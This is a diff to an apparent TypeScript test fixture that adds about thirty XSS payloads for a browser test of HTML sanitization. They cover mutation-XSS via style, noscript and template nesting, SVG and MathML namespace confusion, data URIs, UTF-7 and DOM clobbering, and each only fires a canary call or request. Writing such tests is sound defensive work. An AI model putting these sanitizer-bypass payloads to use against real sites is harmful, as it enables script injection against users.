@@ -1,6 +1,8 @@
 /**
- * Zixun's own XSS payloads for the browser journey, on top of DOMPurify's
- * fixtures (read from ../shared at test time, never copied here). Each one,
+ * Zixun's own XSS payloads for the browser journey: alone in
+ * `npm run test:e2e`, with DOMPurify's fixtures (read from the shared folder
+ * at test time, never copied here) in `npm run test:corpora`. They cover
+ * the classes of attack those fixtures do, in payloads of our own. Each one,
  * if it ever ran, would call `__canary('<id>')` or `alert('<id>')` or reach
  * the canary host, so a failure names the payload that caused it.
  *
@@ -247,6 +249,131 @@ const payloads: Array<[string, string]> = [
     'nested-a',
     `<a href="https://example.com/1">a<a href="javascript:${c('nested-a')}">b</a></a>`,
   ],
+  // --- more shapes of the classes above (cf. DOMPurify's own suite) ---
+  [
+    'a-javascript-nbsp',
+    `<a href="&#xA0;javascript:${c('a-javascript-nbsp')}">link</a>`,
+  ],
+  [
+    'a-javascript-ogham-space',
+    `<a href="&#x1680;javascript:${c('a-javascript-ogham-space')}">link</a>`,
+  ],
+  [
+    'media-data-src',
+    `<video src="data:text/html,<script>parent.${c('media-data-src')}</script>" onerror="${c('media-data-src')}"></video><audio src="data:audio/wav,x" onloadstart="${c('media-data-src')}"></audio>`,
+  ],
+  [
+    'table-background',
+    `<table background="javascript:${c('table-background')}"><tr><td>x</td></tr></table>`,
+  ],
+  [
+    'textarea-comment',
+    `<p><textarea>notes</textarea><!--</textarea><img src=x onerror=${c('textarea-comment')}>--></p>`,
+  ],
+  [
+    'noscript-comment',
+    `<i><noscript><!-- </noscript><img src=x onerror=${c('noscript-comment')} --></noscript></i>`,
+  ],
+  [
+    'template-nested',
+    `<template><u><template><u><img src=x onerror=${c('template-nested')}></u></template></u></template>`,
+  ],
+  [
+    'option-style',
+    `<select><option><style></option></select><i><img src=x onerror=${c('option-style')}></style></option>`,
+  ],
+  [
+    'style-self-closing',
+    `<em><style><style///><img src=x onerror=${c('style-self-closing')}>`,
+  ],
+  [
+    'input-onblur-autofocus',
+    `<input onblur="${c('input-onblur-autofocus')}" autofocus><input autofocus>`,
+  ],
+  [
+    'frameset-onload',
+    `<frameset onload="${c('frameset-onload')}"><frame src="javascript:parent.${c('frameset-onload')}"></frameset>`,
+  ],
+  [
+    'li-list-style-onerror',
+    `<ul><li style="list-style:url(x)" onerror="${c('li-list-style-onerror')}">x</li></ul>`,
+  ],
+  [
+    'style-expression',
+    `<p style="width:expression(${c('style-expression')})">x</p>`,
+  ],
+  [
+    'link-data-stylesheet',
+    `<link rel=stylesheet href="data:text/css,*{background:url(//${CANARY_HOST}/link-data-stylesheet)}"><p>x</p>`,
+  ],
+  [
+    'style-import-data',
+    `<style>@import "data:text/css,*{background:url(//${CANARY_HOST}/style-import-data)}";</style><p>x</p>`,
+  ],
+  [
+    'object-data-base64',
+    `<object data="data:text/html;base64,${Buffer.from(`<script>parent.${c('object-data-base64')}</script>`).toString('base64')}"></object>`,
+  ],
+  [
+    'svg-set-onmouseover',
+    `<svg><set attributeName="onmouseover" to="${c('svg-set-onmouseover')}"/><rect width=10 height=10 /></svg>`,
+  ],
+  [
+    'svg-animate-values',
+    `<svg><a><animate attributeName="href" values="javascript:${c('svg-animate-values')}"/><text y=20>x</text></a></svg>`,
+  ],
+  [
+    'svg-image-data',
+    `<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c('svg-image-data')}'/>" width=10 height=10 /></svg>`,
+  ],
+  [
+    'svg-foreignobject-style',
+    `<svg><foreignObject><p><style><p title="</style><img src=x onerror=${c('svg-foreignobject-style')}>"></style></p></foreignObject></svg>`,
+  ],
+  [
+    'math-annotation-xml',
+    `<math><annotation-xml encoding="text/html"><p><style><p title="</style><img src=x onerror=${c('math-annotation-xml')}>"></style></annotation-xml></math>`,
+  ],
+  [
+    'svg-style-iframe-entity',
+    `<svg><style><a title="</style><iframe onload&#x3d;${c('svg-style-iframe-entity')}>"></a></style></svg>`,
+  ],
+  [
+    'div-ondragstart',
+    `<div draggable="true" ondragstart="${c('div-ondragstart')}">drag me</div>`,
+  ],
+  [
+    'body-onscroll',
+    `<body onscroll="${c('body-onscroll')}"><div style="height:3000px">tall</div>`,
+  ],
+  [
+    'dialog-commandfor',
+    `<dialog id=zx-dialog open onclose="${c('dialog-commandfor')}">x</dialog><button commandfor=zx-dialog command=close>close</button>`,
+  ],
+  [
+    'selectedcontent-clone',
+    `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${c('selectedcontent-clone')}>a</option></select>`,
+  ],
+  [
+    'meta-charset-utf7',
+    `<meta charset="x-imap4-modified-utf7">&ADw-img src=x onerror=${c('meta-charset-utf7')}&AD4-`,
+  ],
+  [
+    'xml-stylesheet-pi',
+    `<?xml-stylesheet type="text/xsl" href="javascript:${c('xml-stylesheet-pi')}"?><p>x</p>`,
+  ],
+  [
+    'iframe-view-source',
+    `<iframe src="view-source:https://${CANARY_HOST}/iframe-view-source"></iframe>`,
+  ],
+  [
+    'script-src-backslash',
+    `<script src="\\\\${CANARY_HOST}/script-src-backslash.js"></script>`,
+  ],
+  [
+    'form-input-clobber',
+    `<form onsubmit="${c('form-input-clobber')}"><input name=attributes><input name=nodeName><input name=parentNode onfocus="${c('form-input-clobber')}"></form><img src=x name=createElement>`,
+  ],
   // --- DOM clobbering (would break the app, not run script) ---
   [
     'clobber',
@@ -288,4 +415,6 @@ export const SELF_TEST_PAYLOADS = {
   /** Needs a real click (the popup blocker wants a user gesture). */
   popup: `<button id=self-popup onclick="window.open('https://offsite.invalid/self-popup')">popup</button>`,
   navigation: `<img src=x onerror="setTimeout(() => location.assign('https://${CANARY_HOST}/self-navigation'), 30)">`,
+  /** Runs 300 ms after its image failed, well after the page settled. */
+  delayed: `<img src=x onerror="setTimeout(() => __canary('self-delayed'), 300)">`,
 } as const
